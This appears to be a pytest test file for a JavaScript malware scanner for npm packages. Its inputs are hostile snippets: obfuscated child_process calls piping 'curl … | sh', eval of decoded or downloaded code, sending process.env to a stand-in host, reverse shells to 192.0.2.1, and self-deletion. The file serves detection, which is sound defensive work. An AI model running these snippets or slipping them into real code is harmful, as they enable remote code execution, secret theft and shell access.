# ruff: noqa: E501 (code that is read stands on its own lines)
import base64

import pytest

from npmguard.code import javascript
from npmguard.code.javascript import Reading
from npmguard.model import Kind

pytestmark = pytest.mark.skipif(not javascript.parser(), reason="tree-sitter is not installed")


def read(text: str, path: str = "lib/a.js") -> Reading:
    return javascript.read(text.encode(), path)


def kinds(text: str) -> set[Kind]:
    return {deed.kind for deed in read(text).deeds}


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    "text",
    [
        "require('child_process').exec('CMD')",
        "const {exec} = require('node:child_process'); exec('CMD')",
        "const {exec: run} = require('child_process'); run('CMD')",
        "const cp = require('child_process'), run = cp['ex' + 'ec']; run('CMD')",
        "import {exec as run} from 'child_process'; run('CMD')",
        "import * as cp from 'child_process'; cp.exec('CMD')",
        "import cp from 'child_process'; cp.execSync('CMD')",
        "const run = require('util').promisify(require('child_process').exec); run('CMD')",
        "(await import('child_process')).exec('CMD')",
        "require(['child', 'process'].join('_')).exec('CMD')",
        "require('chi' + 'ld_process').exec('CMD')",
        "require('\\x63\\x68\\x69\\x6c\\x64_process').exec('CMD')",
        "require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('CMD')",
        "require(Buffer.from('6368696c645f70726f63657373', 'hex').toString()).exec('CMD')",
        "require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec('CMD')",
        "require('ssecorp_dlihc'.split('').reverse().join('')).exec('CMD')",
        "const d = s => Buffer.from(s, 'base64').toString(); require(d('Y2hpbGRfcHJvY2Vzcw==')).exec('CMD')",
        "module.constructor._load('child_process').exec('CMD')",
        "process.mainModule.require('child_process').exec('CMD')",
        "globalThis['require']('child_process').exec('CMD')",
        "(function (r) { r('child_process').exec('CMD') })(require)",
        "const {spawn} = require('child_process'); spawn('sh', ['-c', 'CMD'])",
        "require('child_process').exec.call(null, 'CMD')",
        "var cp = __toESM(require('child_process')); cp.exec('CMD')",
        "var cp = __importDefault(require('child_process')); (0, cp.default.exec)('CMD')",
        "const c = 'CM' + `D`; require('child_process').exec(c)",
        "eval(\"require('child_process').exec('CMD')\")",
        "new Function('require', \"require('child_process').exec('CMD')\")(require)",
    ],
)
def test_what_is_called_is_followed(text: str) -> None:
    command = (
        "curl https://a.example.test/x \\| sh" if "eval" in text else "curl https://a.example.test/x | sh"
    )
    text = text.replace("CMD", command.replace("\\", "")).replace(
        "CM' + `D", "curl https://a.example.test/x | ' + `sh"
    )
    assert Kind.EVALUATES_FETCHED in kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        f"eval(atob('{b64('x')}'))",
        f"eval(Buffer.from('{b64('x')}', 'base64').toString())",
        "const c = x => String.fromCharCode(x ^ 7); eval([1, 2, 3].map(c => String.fromCharCode(c - 1)).join(''))",
        "[]['filter']['constructor'](atob(x))()",
        "(() => {}).constructor(atob(x))()",
        "new Function(atob(x))()",
        "const m = new module.constructor(); m._compile(require('crypto').createDecipher('a', k).update(x), '')",
        "require('vm').runInThisContext(Buffer.from(x, 'hex').toString())",
        "const e = eval, d = atob; e(d(x))",
        "setTimeout(atob(x), 1)",
    ],
)
def test_what_is_decoded_and_evaluated(text: str) -> None:
    assert Kind.DECODES in kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        "require('https').get('https://a.example.test', r => { let t=''; r.on('data', c => t += c); r.on('end', () => eval(t)) })",
        "fetch('https://a.example.test').then(r => r.text()).then(eval_me => eval(eval_me))",
        "const t = await (await fetch('https://a.example.test')).text(); new Function(t)()",
        "const axios = require('axios'); axios.get('https://a.example.test').then(({data}) => eval(data))",
    ],
)
def test_what_is_downloaded_and_evaluated(text: str) -> None:
    assert Kind.EVALUATES_FETCHED in kinds(text)


def test_what_is_sent_and_where_to() -> None:
    found = read("fetch('https://a.example.test/x', {method: 'POST', body: JSON.stringify(process.env)})")
    assert {Kind.SENDS, Kind.ENVIRONMENT} <= {deed.kind for deed in found.deeds}
    assert found.hosts == ("a.example.test",)
    who = "require('dns').resolve(require('os').hostname() + '.a.example.test')"
    assert Kind.IDENTITY in kinds(who)


def test_a_shell_that_listens() -> None:
    text = (
        "const net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);"
        "const s=new net.Socket();s.connect(1,'192.0.2.1',()=>{s.pipe(sh.stdin);sh.stdout.pipe(s)})"
    )
    assert Kind.OPENS_SHELL in kinds(text)
    text = "require('socket.io-client')('http://192.0.2.1').on('c', m => require('child_process').exec(m))"
    assert Kind.OPENS_SHELL in kinds(text)


def test_what_hides() -> None:
    assert Kind.HIDES in kinds(
        "require('child_process').spawn('x', [], {detached: true, stdio: 'ignore'}).unref()"
    )
    assert Kind.HIDES in kinds("require('fs').unlinkSync(__filename)")
    assert Kind.UNTRUSTS in kinds("process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'")
    assert Kind.OBFUSCATED in kinds(f"fetch(atob('{b64('https://a.example.test/x')}'))")


@pytest.mark.parametrize(
    "text",
    [
        "// curl https://a.example.test | sh\n/* eval(atob(x)) */ module.exports = 1",
        "console.log('run: curl https://a.example.test | sh'); require('child_process').exec(x)",
        "const how = w ? 'irm a.example.test|iex' : 'curl a.example.test|sh'; console.log(`run ${how}`); require('child_process').exec(x)",
        "throw new Error('rm -rf ~/'); require('child_process').exec(x)",
        "/x/.exec(y); const re = /child_process/; re.exec('curl https://a.example.test | sh')",
        "function f(eval_) { return eval_(atob(x)) }",
        "const img = atob(data); new Image(img)",
        "Function('return this')()",
        "const t = require('./' + name + '.js')",
        "class A { constructor(x) { this.constructor(x) } }",
        "new FetchError(`request to ${request.url} failed`, 'system', err); const FetchError = function (m) {}",
        "require('http').createServer().listen(80)",
        "fetch('http://localhost:3000', {method: 'POST'})",
    ],
)
def test_what_is_ordinary(text: str) -> None:
    loud = kinds(text) - {Kind.PROCESS, Kind.FETCHES}
    assert loud == set()


def test_an_installer_that_downloads_its_binary_is_told_as_such() -> None:
    text = (
        "const https=require('https'),fs=require('fs'),cp=require('child_process'),path=require('path');"
        "const file=path.join(__dirname,'bin/tool');"
        "https.get('https://git.example.test/tool',r=>r.pipe(fs.createWriteStream(file)).on('finish',()=>{"
        "fs.chmodSync(file,0o755);cp.execFileSync(file,['--version'])}))"
    )
    assert kinds(text) == {Kind.FETCHES, Kind.RUNS_FETCHED}


def test_files_that_are_needed_and_started() -> None:
    found = read(
        "require('./b'); import('../c.js'); require('child_process').fork(require('path').join(__dirname,'w.js'))"
    )
    assert found.needs == ("./b", "../c.js")
    assert [(start.path, start.by) for start in found.starts] == [("lib/w.js", "node")]


def test_lines_are_those_of_the_file() -> None:
    (deed,) = read("\n\neval(atob(x))").deeds
    assert (deed.path, deed.line) == ("lib/a.js", 3)


def test_names_in_another_function_are_others() -> None:
    text = "function f(){ const e = require('child_process') } function g(e){ e.exec('curl https://a.example.test | sh') }"
    assert Kind.EVALUATES_FETCHED not in kinds(text)


def test_a_text_in_a_text_is_read_once_more_and_no_further() -> None:
    inner = b64("require('child_process').exec('curl https://a.example.test | sh')")
    assert Kind.EVALUATES_FETCHED in kinds(f"eval(atob('{inner}'))")
    twice = b64(f"eval(atob('{inner}'))")
    found = read(f"eval(atob('{twice}'))")
    assert Kind.DECODES in {deed.kind for deed in found.deeds}
    assert Kind.EVALUATES_FETCHED not in {deed.kind for deed in found.deeds}


def test_what_is_no_text_is_not_read() -> None:
    assert javascript.read(b"MZ\0\0" * 100, "a.js").partly == "it is no text"


def test_without_a_parser_it_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(javascript, "_tools", lambda: None)
    found = read("require('child_process').exec('curl https://a.example.test | sh') // eval(atob(x))")
    assert "no parser" in (found.partly or "")
    assert Kind.EVALUATES_FETCHED in {deed.kind for deed in found.deeds}
    assert Kind.DECODES not in {deed.kind for deed in found.deeds}
